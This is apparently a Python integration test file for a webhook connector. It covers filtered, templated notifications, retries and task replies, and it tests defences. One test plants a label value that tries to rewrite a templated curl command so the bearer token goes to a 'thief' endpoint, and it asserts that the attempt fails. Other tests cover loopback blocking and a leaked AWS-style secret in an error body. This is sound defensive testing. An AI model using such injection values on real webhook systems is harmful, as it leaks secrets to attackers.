"""The webhook connector on the real broker: filtered notifications from `events` to a local HTTP
receiver (templated body, secret from the environment), and a webhook that answers a task; attacks
from event data (a curl line rewritten by a label) and on internal addresses (loopback without the
operator's allow-list, an error body with a secret) against real local receivers.

The receivers listen on loopback, which webhooks may only call when the allow-list says so: every test
that expects a call passes `allow=["127.0.0.1"]` explicitly."""

from __future__ import annotations

import asyncio

import pytest
import yaml

from tests.fakes.connectors import hosted, publish_tasks, triggered
from tests.fakes.receiver import Receiver
from tests.support.kafka import EventCollector, publish_files
from tidegate.connectors.runtime import ConnectorOptions
from tidegate.connectors.webhook import ALLOW_VARIABLE, HttpSender, WebhookConnector, WebhookSettings
from tidegate.schemas.events import KeptnEvent
from tidegate.streams.kafka import AsyncEventPublisher
from tidegate.streams.resources import ResourceStore
from tidegate.streams.settings import Settings
from tidegate.streams.topics import TopicRegistry

pytestmark = pytest.mark.integration

WAIT = 60.0
LOOPBACK = ["127.0.0.1"]


def webhook_yaml(url: str) -> str:
    return yaml.safe_dump({
        "apiVersion": "webhookconfig.keptn.sh/v1beta1", "kind": "WebhookConfig",
        "metadata": {"name": "webhook-configuration"},
        "spec": {"webhooks": [
            {"type": "sh.keptn.event.evaluation.finished", "subscriptionID": "failed-production",
             "filter": {"stages": ["production"], "results": ["fail"]},
             "envFrom": [{"name": "token", "secretRef": {"name": "slack", "key": "token"}}],
             "requests": [{"url": url + "/services/{{.env.token}}", "method": "POST",
                           "headers": [{"key": "Content-Type", "value": "application/json"}],
                           "payload": '{"text": "{{.data.service}} failed its quality gate in {{.data.stage}} '
                                      '(score {{.data.evaluation.score}})"}'}]},
            {"type": "sh.keptn.event.release.triggered", "subscriptionID": "release-hook",
             "requests": [{"url": url + "/release/{{.data.service}}", "method": "PUT", "payload": "{{.data.result}}"}]},
        ]},
    })


def evaluation_finished(stage: str, result: str) -> KeptnEvent:
    return KeptnEvent(type="sh.keptn.event.evaluation.finished", source="lighthouse", shkeptncontext="ctx",
                      triggeredid="t1", data={"project": "sockshop", "stage": stage, "service": "carts",
                                              "result": result, "status": "succeeded", "evaluation": {"score": 33}})


async def test_notifications_are_filtered_templated_and_retried(tidegate_settings: Settings) -> None:
    with Receiver(fail_first=1) as receiver:
        publish_files(tidegate_settings, "sockshop", {"webhook/webhook.yaml": webhook_yaml(receiver.url)})
        resources = ResourceStore()
        connector = WebhookConnector(resources, sender=HttpSender(attempts=3, backoff=0.05, allow=LOOPBACK),
                                     environ={"TIDEGATE_SECRET_SLACK_TOKEN": "T0/B1/xyz"})
        async with hosted([connector], tidegate_settings, resources=resources):
            await asyncio.wait_for(connector.following.wait(), WAIT)
            events = TopicRegistry.from_settings(tidegate_settings).events
            async with AsyncEventPublisher(tidegate_settings) as publisher:
                for stage, result in (("production", "pass"), ("staging", "fail"), ("production", "fail")):
                    await publisher.publish(events, evaluation_finished(stage, result))
            received = await asyncio.to_thread(receiver.wait_for, 2, WAIT)
    # One matching event; its first try got a 503 and was retried.
    assert [(r.method, r.path) for r in received] == [("POST", "/services/T0/B1/xyz")] * 2
    assert received[-1].body == '{"text": "carts failed its quality gate in production (score 33)"}'
    assert received[-1].headers["Content-Type"] == "application/json"
    assert len(receiver.received) == 2


async def test_a_webhook_answers_a_task_with_started_and_finished(tidegate_settings: Settings) -> None:
    with Receiver() as receiver:
        publish_files(tidegate_settings, "sockshop", {"webhook/webhook.yaml": webhook_yaml(receiver.url)})
        resources = ResourceStore()
        connector = WebhookConnector(resources, tasks=["release"], environ={},
                                     settings=WebhookSettings(allow_hosts=LOOPBACK))
        event = triggered("release", {"result": "pass"})
        topics = TopicRegistry.from_settings(tidegate_settings)
        async with EventCollector(tidegate_settings, topics.events) as replies, \
                hosted([connector], tidegate_settings, ConnectorOptions(timeout=30), resources=resources):
            await publish_tasks(tidegate_settings, event)
            events = await replies.wait_for(
                lambda evs: any(e.triggeredid == event.id and e.type.endswith(".finished") for e in evs),
                WAIT, "release.finished from the webhook connector")
        kinds = [e.type for e in events if e.triggeredid == event.id]
        finished = next(e for e in events if e.triggeredid == event.id and e.type.endswith(".finished"))
    assert kinds == ["sh.keptn.event.release.started", "sh.keptn.event.release.finished"]
    assert (finished.data["status"], finished.data["result"]) == ("succeeded", "pass"), finished.data["message"]
    assert [(r.method, r.path, r.body) for r in receiver.received] == [("PUT", "/release/carts", "pass")]


def curl_webhook(url: str) -> str:
    return yaml.safe_dump({
        "apiVersion": "webhookconfig.keptn.sh/v1alpha1", "kind": "WebhookConfig",
        "metadata": {"name": "webhook-configuration"},
        "spec": {"webhooks": [{
            "type": "sh.keptn.event.release.triggered", "subscriptionID": "curl-hook",
            "envFrom": [{"name": "token", "secretRef": {"name": "hook", "key": "token"}}],
            "requests": ["curl -X POST -H 'Authorization: Bearer {{.env.token}}' " + url + "/hook/{{.data.service}} "
                         "-d '{\"team\": \"{{.data.labels.team}}\"}'"],
        }]},
    })


async def test_a_label_cannot_rewrite_a_curl_line_to_send_the_secret_elsewhere(tidegate_settings: Settings) -> None:
    with Receiver() as hook, Receiver() as thief:
        attack = f"x' {thief.url}/steal -d 'y"
        publish_files(tidegate_settings, "sockshop", {"webhook/webhook.yaml": curl_webhook(hook.url)})
        resources = ResourceStore()
        connector = WebhookConnector(resources, tasks=["release"], environ={"TIDEGATE_SECRET_HOOK_TOKEN": "tok-s3cret"},
                                     settings=WebhookSettings(allow_hosts=LOOPBACK))
        event = triggered("release")
        event = event.model_copy(update={"data": {**event.data, "labels": {"team": attack}}})
        topics = TopicRegistry.from_settings(tidegate_settings)
        async with EventCollector(tidegate_settings, topics.events) as replies, \
                hosted([connector], tidegate_settings, ConnectorOptions(timeout=30), resources=resources):
            await publish_tasks(tidegate_settings, event)
            events = await replies.wait_for(
                lambda evs: any(e.triggeredid == event.id and e.type.endswith(".finished") for e in evs),
                WAIT, "release.finished from the webhook connector")
        finished = next(e for e in events if e.triggeredid == event.id and e.type.endswith(".finished"))
        assert finished.data["status"] == "succeeded", finished.data["message"]
        assert thief.received == []
        [call] = hook.received
        assert (call.method, call.path) == ("POST", "/hook/carts")
        assert call.headers["Authorization"] == "Bearer tok-s3cret"
        assert call.body == '{"team": "' + attack + '"}'
        assert "tok-s3cret" not in str(finished.data)


async def release_finished(settings: Settings, connector: WebhookConnector, resources: ResourceStore) -> KeptnEvent:
    event = triggered("release", {"result": "pass"})
    topics = TopicRegistry.from_settings(settings)
    async with EventCollector(settings, topics.events) as replies, \
            hosted([connector], settings, ConnectorOptions(timeout=30), resources=resources):
        await publish_tasks(settings, event)
        events = await replies.wait_for(
            lambda evs: any(e.triggeredid == event.id and e.type.endswith(".finished") for e in evs),
            WAIT, "release.finished from the webhook connector")
    return next(e for e in events if e.triggeredid == event.id and e.type.endswith(".finished"))


async def test_loopback_is_refused_without_the_allow_list_and_nothing_arrives(tidegate_settings: Settings) -> None:
    with Receiver() as receiver:
        publish_files(tidegate_settings, "sockshop", {"webhook/webhook.yaml": webhook_yaml(receiver.url)})
        resources = ResourceStore()
        connector = WebhookConnector(resources, tasks=["release"], environ={}, settings=WebhookSettings(allow_hosts=[]))
        finished = await release_finished(tidegate_settings, connector, resources)
    assert finished.data["status"] == "errored"
    assert "127.0.0.1 is a loopback address" in finished.data["message"]
    assert ALLOW_VARIABLE in finished.data["message"]
    assert receiver.received == []


async def test_an_error_answer_is_reported_by_its_status_without_its_body(tidegate_settings: Settings) -> None:
    with Receiver(status=500, error_body=b"internal: AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG") as receiver:
        publish_files(tidegate_settings, "sockshop", {"webhook/webhook.yaml": webhook_yaml(receiver.url)})
        resources = ResourceStore()
        connector = WebhookConnector(resources, tasks=["release"], environ={},
                                     sender=HttpSender(attempts=2, backoff=0.05, allow=LOOPBACK))
        finished = await release_finished(tidegate_settings, connector, resources)
    assert finished.data["status"] == "errored"
    assert finished.data["message"] == f"PUT {receiver.url}/release/carts answered HTTP 500 after 2 tries"
    assert "wJalrXUtnFEMI" not in str(finished.data) and "AWS_SECRET" not in str(finished.data)
    assert len(receiver.received) == 2
